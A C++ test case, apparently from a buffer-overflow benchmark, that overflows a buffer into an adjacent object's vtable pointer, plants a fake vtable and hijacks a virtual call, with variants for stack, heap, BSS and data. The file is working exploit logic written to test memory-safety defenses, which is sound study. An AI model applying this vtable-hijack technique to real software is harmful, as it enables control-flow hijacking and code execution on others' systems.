// attack_vtable.cpp — overflow from a buffer into the vtable pointer of the
// C++ object beside it (BW_TARGET 8), then a virtual call through the fake
// vtable.  Same build options as attack.c (BW_WHERE, BW_HOW, BW_TO).
// Redirecting to a libc function does not apply here: the virtual call
// passes `this` (the fake vtable pointer) as the first argument.
#define _GNU_SOURCE
#include <cstddef>
#include <new>

#include "attack_common.h"

struct Greeter {
    virtual void greet(const char *s) { printf("hello %.8s\n", s); }
    virtual ~Greeter() {}
};

struct Holder {
    char buf[64];
    Greeter g;
};

#if BW_WHERE == W_BSS
static Holder gh;
#elif BW_WHERE == W_DATA
static Holder gh = { "data", Greeter() };
#endif

static void *fake_vtable[4];

__attribute__((noinline)) static void call_greet(Greeter *g, const char *arg)
{
    g->greet(arg);
}

__attribute__((noinline)) static void run()
{
    if (BW_TO == T_LIBC)
        na("a virtual call passes `this` first; no libc function fits");
#if BW_WHERE == W_STACK
    Holder sh;
    Holder *h = &sh;
#elif BW_WHERE == W_HEAP
    Holder *h = new Holder();
#else
    Holder *h = &gh;
#endif
    fake_vtable[0] = reinterpret_cast<void *>(redirect_target());
    off = offsetof(Holder, g);
    memset(pl, 'A', off);
    finish_with_addr(off, reinterpret_cast<uintptr_t>(fake_vtable));
    prepare_file();
    OVERFLOW(h->buf);
    call_greet(&h->g, h->buf);
}

int main()
{
    setvbuf(stdout, nullptr, _IONBF, 0);
    run();
    puts("attack did not take control");
    return 0;
}
